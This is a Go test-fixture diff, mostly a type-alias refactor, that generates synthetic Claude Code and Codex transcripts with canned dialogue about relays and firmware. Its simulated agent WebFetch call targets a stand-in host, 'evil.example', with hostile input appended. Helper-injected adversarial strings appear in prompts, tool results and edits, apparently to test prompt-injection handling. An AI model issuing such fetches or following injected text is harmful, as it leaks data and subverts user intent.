@@ -15,6 +15,9 @@ const (
 	codexID = "01a1ee10-0000-7000-8000-000000000003"
 )
 
+// object is one of JSON.
+type object = map[string]any
+
 // transcript is a session of Claude Code that is being written.
 type transcript struct {
 	w      *world
@@ -26,13 +29,13 @@ type transcript struct {
 }
 
 // add writes a record that follows the last one, and returns its id.
-func (s *transcript) add(kind string, message map[string]any, extra map[string]any) string {
+func (s *transcript) add(kind string, message object, extra object) string {
 	s.n++
 	s.at = s.at.Add(37 * time.Second)
 	id := fmt.Sprintf("u%04d", s.n)
-	record := map[string]any{
-		"type": kind, "uuid": id, "parentUuid": nil, "isSidechain": false, "sessionId": s.id, "timestamp": s.at.Format(time.RFC3339Nano),
-		"cwd": s.w.repo, "gitBranch": "main", "version": "2.1.332", "entrypoint": "cli", "message": message,
+	record := object{
+		"type": kind, "uuid": id, "parentUuid": nil, "isSidechain": false, "sessionId": s.id, "message": message,
+		"timestamp": s.at.Format(time.RFC3339Nano), "cwd": s.w.repo, "gitBranch": "main", "version": "2.1.332", "entrypoint": "cli",
 	}
 	if s.parent != "" {
 		record["parentUuid"] = s.parent
@@ -45,7 +48,7 @@ func (s *transcript) add(kind string, message map[string]any, extra map[string]a
 	return id
 }
 
-func (s *transcript) line(record map[string]any) {
+func (s *transcript) line(record object) {
 	b, err := json.Marshal(record)
 	if err != nil {
 		s.w.t.Fatal(err)
@@ -54,25 +57,27 @@ func (s *transcript) line(record map[string]any) {
 }
 
 func (s *transcript) user(text string) string {
-	return s.add("user", map[string]any{"role": "user", "content": text}, map[string]any{"promptSource": "typed", "origin": map[string]any{"kind": "human"}})
+	return s.add("user", object{"role": "user", "content": text},
+		object{"promptSource": "typed", "origin": object{"kind": "human"}})
 }
 
-func (s *transcript) says(blocks ...map[string]any) string {
-	return s.add("assistant", map[string]any{"id": "msg_" + fmt.Sprint(s.n), "role": "assistant", "model": "model-a", "content": blocks}, nil)
+func (s *transcript) says(blocks ...object) string {
+	return s.add("assistant",
+		object{"id": "msg_" + fmt.Sprint(s.n), "role": "assistant", "model": "model-a", "content": blocks}, nil)
 }
 
-func said(text string) map[string]any { return map[string]any{"type": "text", "text": text} }
-func thought(text string) map[string]any {
-	return map[string]any{"type": "thinking", "thinking": text, "signature": "x"}
+func said(text string) object { return object{"type": "text", "text": text} }
+func thought(text string) object {
+	return object{"type": "thinking", "thinking": text, "signature": "x"}
 }
 
 // tool is a call and its result.
-func (s *transcript) tool(name string, input map[string]any, result string, failed bool) {
+func (s *transcript) tool(name string, input object, result string, failed bool) {
 	id := fmt.Sprintf("toolu_%04d", s.n)
-	s.says(map[string]any{"type": "tool_use", "id": id, "name": name, "input": input})
-	s.add("user", map[string]any{"role": "user", "content": []map[string]any{
+	s.says(object{"type": "tool_use", "id": id, "name": name, "input": input})
+	s.add("user", object{"role": "user", "content": []object{
 		{"type": "tool_result", "tool_use_id": id, "content": result, "is_error": failed},
-	}}, map[string]any{"toolUseResult": map[string]any{"stdout": result, "stderr": "", "interrupted": false}})
+	}}, object{"toolUseResult": object{"stdout": result, "stderr": "", "interrupted": false}})
 }
 
 func (s *transcript) write() {
@@ -99,14 +104,17 @@ func (w *world) transcripts() {
 func (w *world) rewind() {
 	s := w.session(rewound, 42)
 	s.user("Which relay does the pump need, please?")
-	s.says(thought("The data sheet says 7 A."), said("We decided to use the ten ampere relay because the pump draws seven ampere.\n\n"+
-		"| relay | current |\n| --- | --- |\n| G5 | 10 A |\n\n```go\nfunc main() { <-done }\n```\n\n- The TCXO drift was caused by a missing calibration.\n"))
+	s.says(thought("The data sheet says 7 A."),
+		said("We decided to use the ten ampere relay because the pump draws seven ampere.\n\n"+
+			"| relay | current |\n| --- | --- |\n| G5 | 10 A |\n\n```go\nfunc main() { <-done }\n```\n\n"+
+			"- The TCXO drift was caused by a missing calibration.\n"))
 	kept := s.parent
 	s.user("Should we rewrite the firmware in Rust?")
 	s.says(said("We decided to rewrite the firmware in Rust because C has no borrow checker."))
 	s.parent = kept
 	s.user("Let us keep the firmware in C, please.")
-	s.says(said("We decided to keep the firmware in C because the vendor's HAL exists only in C. The range test is still open."))
+	s.says(said("We decided to keep the firmware in C because the vendor's HAL exists only in C. " +
+		"The range test is still open."))
 	s.write()
 }
 
@@ -114,11 +122,13 @@ func (w *world) rewind() {
 func (w *world) fails() {
 	s := w.session(failing, 12)
 	s.user("Why do the tests fail? " + hostile("prompt"))
-	s.tool("Bash", map[string]any{"command": "make test", "description": "Run the tests"}, "FAIL: relay_test.c:12: expected 10, got 5\nexit status 2", true)
-	s.tool("Read", map[string]any{"file_path": filepath.Join(w.repo, "relay.c")}, "1\tint relay;", false)
-	s.tool("WebFetch", map[string]any{"url": "http://evil.example/" + hostile("input")}, hostile("result"), false)
-	s.tool("Edit", map[string]any{"file_path": filepath.Join(w.repo, "docs", hostileNames()[0]), "old_string": hostile("old"), "new_string": hostile("new")}, "done", false)
-	s.tool("Bash", map[string]any{"command": "seq 1 400"}, strings.Repeat("a long line of output that goes on and on\n", 400), false)
+	s.tool("Bash", object{"command": "make test", "description": "Run the tests"},
+		"FAIL: relay_test.c:12: expected 10, got 5\nexit status 2", true)
+	s.tool("Read", object{"file_path": filepath.Join(w.repo, "relay.c")}, "1\tint relay;", false)
+	s.tool("WebFetch", object{"url": "http://evil.example/" + hostile("input")}, hostile("result"), false)
+	s.tool("Edit", object{"file_path": filepath.Join(w.repo, "docs", hostileNames()[0]),
+		"old_string": hostile("old"), "new_string": hostile("new")}, "done", false)
+	s.tool("Bash", object{"command": "seq 1 400"}, strings.Repeat("a long line of output that goes on and on\n", 400), false)
 	s.says(thought(hostile("thought")), said("It turned out that the relay was too small. "+hostile("answer")))
 	for i := range 120 {
 		s.user(fmt.Sprintf("And step %d of the valve?", i))
@@ -131,24 +141,28 @@ func (w *world) fails() {
 func (w *world) codex() {
 	var b strings.Builder
 	at := w.day(14)
-	line := func(kind string, payload map[string]any) {
+	line := func(kind string, payload object) {
 		at = at.Add(time.Second)
-		text, err := json.Marshal(map[string]any{"timestamp": at.Format("2006-01-02T15:04:05.000Z"), "type": kind, "payload": payload})
+		stamp := at.Format("2006-01-02T15:04:05.000Z")
+		text, err := json.Marshal(object{"timestamp": stamp, "type": kind, "payload": payload})
 		if err != nil {
 			w.t.Fatal(err)
 		}
 		b.Write(append(text, '\n'))
 	}
-	item := func(item map[string]any) {
-		line("event_msg", map[string]any{"type": "item_completed", "thread_id": codexID, "turn_id": codexID, "item": item})
+	item := func(item object) {
+		line("event_msg", object{"type": "item_completed", "thread_id": codexID, "turn_id": codexID, "item": item})
 	}
-	line("session_meta", map[string]any{
+	line("session_meta", object{
 		"id": codexID, "session_id": codexID, "timestamp": at.Format(time.RFC3339), "cwd": w.repo, "originator": "codex-tui",
-		"cli_version": "0.171.0", "source": "cli", "history_mode": "paginated", "git": map[string]any{"branch": "main"},
+		"cli_version": "0.171.0", "source": "cli", "history_mode": "paginated", "git": object{"branch": "main"},
 	})
-	item(map[string]any{"type": "UserMessage", "id": "u1", "content": []map[string]any{{"type": "text", "text": "Choose a connector for the sensor " + hostile("codex")}}})
-	item(map[string]any{"type": "CommandExecution", "id": "exec-1", "command": []string{"/bin/bash", "-lc", "echo hi; exit 4"}, "cwd": "file://" + w.repo,
-		"status": "failed", "aggregated_output": "hi " + hostile("output") + "\n", "exit_code": 4})
-	item(map[string]any{"type": "AgentMessage", "id": "a1", "content": []map[string]any{{"type": "Text", "text": "We decided to use the four pin connector because the sensor needs four lines."}}})
-	w.file(w.home, filepath.Join(".codex", "sessions", at.Format("2006/01/02"), "rollout-"+at.Format("2006-01-02T15-04-05")+"-"+codexID+".jsonl"), b.String())
+	item(object{"type": "UserMessage", "id": "u1",
+		"content": []object{{"type": "text", "text": "Choose a connector for the sensor " + hostile("codex")}}})
+	item(object{"type": "CommandExecution", "id": "exec-1", "command": []string{"/bin/bash", "-lc", "echo hi; exit 4"},
+		"cwd": "file://" + w.repo, "status": "failed", "aggregated_output": "hi " + hostile("output") + "\n", "exit_code": 4})
+	item(object{"type": "AgentMessage", "id": "a1", "content": []object{{"type": "Text",
+		"text": "We decided to use the four pin connector because the sensor needs four lines."}}})
+	w.file(filepath.Join(w.home, ".codex", "sessions", at.Format("2006/01/02")),
+		"rollout-"+at.Format("2006-01-02T15-04-05")+"-"+codexID+".jsonl", b.String())
 }
